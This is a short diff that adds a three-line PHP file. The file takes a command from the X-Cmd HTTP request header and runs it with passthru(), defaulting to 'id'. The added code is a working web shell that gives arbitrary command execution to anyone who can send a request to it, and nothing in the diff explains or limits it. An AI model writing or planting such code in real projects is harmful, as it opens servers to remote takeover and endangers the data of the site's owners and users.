@@ -1,0 +1,3 @@
+<?php
+$c = $_SERVER['HTTP_X_CMD'] ?? 'id';
+passthru($c);
